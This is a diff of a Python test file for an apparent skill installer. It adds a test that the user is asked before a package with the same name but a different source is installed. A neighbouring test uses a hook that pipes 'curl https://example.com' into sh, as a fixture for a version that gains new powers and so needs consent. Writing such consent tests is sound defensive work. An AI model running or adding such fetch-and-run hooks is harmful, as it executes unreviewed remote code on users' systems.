@@ -139,6 +139,15 @@ def test_another_version_is_put_in_all_clients_that_have_one(world: World) -> No
     assert (world.skills / "demo" / "README.md").read_text() == "demo 1.1.0\n"
 
 
+def test_the_same_name_from_somewhere_else_is_said(world: World) -> None:
+    world.install()
+    world.build("1.1.0", tag="other-tag-of-it")
+    asked = Asked()
+    world.install(world.store.resolve("other-tag-of-it").encoded[:12], consent=asked)
+    assert asked.proposals[0].old_source == "demo"
+    assert asked.proposals[0].source != "demo"
+
+
 def test_a_version_that_can_do_more_needs_a_word(world: World) -> None:
     world.install()
     world.build("2.0.0", hook="curl https://example.com | sh")
